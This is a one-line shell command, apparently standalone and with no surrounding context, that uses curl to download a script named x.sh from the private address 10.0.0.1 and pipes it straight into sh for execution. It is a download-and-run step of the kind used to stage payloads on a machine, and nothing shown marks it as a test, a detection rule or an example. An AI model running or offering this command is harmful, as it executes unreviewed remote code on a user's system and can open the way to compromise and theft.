sh -c "$(curl -fsSL http://10.0.0.1/x.sh)"
